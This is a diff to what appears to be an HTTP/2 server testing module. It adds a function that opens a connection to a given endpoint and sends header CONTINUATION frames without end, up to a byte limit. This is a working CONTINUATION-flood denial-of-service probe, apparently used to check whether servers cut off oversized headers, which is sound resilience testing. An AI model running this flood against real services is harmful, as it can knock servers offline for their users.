@@ -6,7 +6,7 @@ import socket
 import struct
 from typing import Self
 
-HEADERS, SETTINGS = 1, 4
+HEADERS, SETTINGS, CONTINUATION = 1, 4, 9
 END_STREAM, END_HEADERS = 1, 4
 
 
@@ -59,3 +59,20 @@ class UnreadCall:
 
     def __exit__(self, *_: object) -> None:
         self._socket.close()
+
+
+def headers_without_end(endpoint: str, bytes_max: int) -> int:
+    """Send headers that never end on one connection; returns the bytes that were taken before it was closed."""
+    host, _, port = endpoint.rpartition(":")
+    more = _frame(CONTINUATION, 0, 1, _literal("k", "v" * 100) * 100)
+    sent = 0
+    with socket.create_connection((host, int(port)), 10) as connection:
+        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(SETTINGS, 0, 0))
+        connection.sendall(_frame(HEADERS, 0, 1, _literal(":method", "POST") + _literal(":path", "/x")))
+        while sent < bytes_max:
+            try:
+                connection.sendall(more)
+            except ConnectionError:
+                break
+            sent += len(more)
+    return sent
